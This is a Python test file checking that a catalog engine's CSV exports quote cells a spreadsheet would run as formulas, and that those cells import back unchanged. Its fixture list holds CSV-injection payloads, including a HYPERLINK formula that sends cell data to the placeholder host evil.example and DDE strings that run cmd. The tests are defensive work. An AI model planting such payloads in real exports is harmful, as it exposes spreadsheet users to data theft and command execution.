"""CSV exports never hand a spreadsheet a formula (OWASP CSV injection), and the catalog's CSV
export still imports back unchanged."""

from __future__ import annotations

import ast
import csv
import io
from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path

from engine.catalog.transfer import export_csv, import_entries, published
from engine.exports import cell, read_cell
from engine.oversight import breaches
from engine.oversight.evaluation import FIGURE_KEYS
from engine.oversight.evaluation import export_csv as annual_csv
from tests.test_breaches import overdue_breach

ROOT = Path(__file__).resolve().parent.parent
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点此")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
]


def rows_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


def test_text_cells_that_a_spreadsheet_would_run_get_a_leading_quote():
    for value in HOSTILE:
        assert cell(value) == "'" + value
    assert cell("户籍变动信息") == "户籍变动信息" and cell("a=b") == "a=b" and cell("") == ""


def test_numbers_stay_numbers_but_text_that_looks_like_one_is_quoted():
    assert cell(-3) == -3 and cell(2.5) == 2.5 and cell(True) is True and cell(None) is None
    assert cell("-3") == "'-3" and cell("+1") == "'+1"


def test_reading_a_cell_gives_back_exactly_what_was_exported():
    for value in [*HOSTILE, "'plain quote", "''=two", "x", "", "-", "'"]:
        assert read_cell(cell(value)) == value


def test_every_csv_writer_in_the_engine_is_the_safe_one():
    """One function neutralises every export: nothing else in engine/ or web/ builds a writer."""
    offenders = []
    for path in [*ROOT.glob("engine/**/*.py"), *ROOT.glob("web/**/*.py")]:
        if path.name == "exports.py":
            continue
        for node in ast.walk(ast.parse(path.read_text("utf-8"))):
            if (
                isinstance(node, ast.Attribute)
                and isinstance(node.value, ast.Name)
                and node.value.id == "csv"
                and node.attr in ("writer", "DictWriter")
            ):
                offenders.append(f"{path.relative_to(ROOT)}:{node.lineno}")
    assert offenders == []


def test_catalog_export_neutralises_hostile_cells_and_imports_them_back(db, actors):
    own = [r for r in published(db) if r.provider.slug == "civil"]
    first = own[0]
    items = [dict(i) for i in first.info_items]
    items[0]["name"] = HOSTILE[2]
    hostile = replace(
        first,
        metadata={
            **first.metadata,
            "summary": HOSTILE[0],
            "lead_department": HOSTILE[1],
            "legal_basis": HOSTILE[6],
            "info_items": items,
        },
    )
    text = export_csv([hostile, *own[1:]])
    row = next(r for r in rows_of(text) if r[0] == first.code)
    assert "'" + HOSTILE[0] in row and "'" + HOSTILE[1] in row and "'" + HOSTILE[2] in row
    assert not any(c.startswith(("=", "+", "-", "@")) for r in rows_of(text) for c in r)
    db.rollback()
    drafts = actors.run(
        lambda s: import_entries(s, actors.clock, actors.user(s, "civil.clerk"), text, "csv")
    )
    assert [d.data["code"] for d in drafts] == [first.code]  # only the changed entry
    data = drafts[0].data
    assert (data["summary"], data["lead_department"], data["legal_basis"]) == (
        HOSTILE[0],
        HOSTILE[1],
        HOSTILE[6],
    )
    assert data["info_items"][0]["name"] == HOSTILE[2]


def test_breach_ledger_export_quotes_an_appeal_reason_that_is_a_formula(actors, clock):
    bid = overdue_breach(actors, clock)
    actors.run(
        lambda s: breaches.appeal(s, actors.clock, actors.user(s, "pubsec.clerk"), bid, HOSTILE[0])
    )
    text = actors.run(
        lambda s: "".join(
            breaches.export_csv_stream(
                breaches.ledger_batches(s, actors.user(s, "data.coord"), breaches.Filters())
            )
        )
    )
    header, row = rows_of(text)[:2]
    assert row[header.index("appeal_reason")] == "'" + HOSTILE[0]


def test_annual_report_export_quotes_text_and_keeps_figures_numeric():
    report = {
        "units": [
            {
                "name": "@自治区民政厅",
                "state": "on_time",
                "submitted": True,
                "on_time": True,
                "submitted_at": datetime(2027, 1, 10, tzinfo=UTC),
                "report": {
                    "achievements": HOSTILE[0],
                    "problems": "-少报",
                    "plans": "",
                    **dict.fromkeys(FIGURE_KEYS, -1),
                },
            }
        ],
        "figures": dict.fromkeys(FIGURE_KEYS, 0),
    }
    header, row = rows_of(annual_csv(report))[:2]
    assert row[0] == "'@自治区民政厅"
    assert row[header.index("achievements")] == "'" + HOSTILE[0]
    assert row[header.index("problems")] == "'-少报"
    assert row[header.index("refusals")] == "-1"  # a figure, written as the number it is
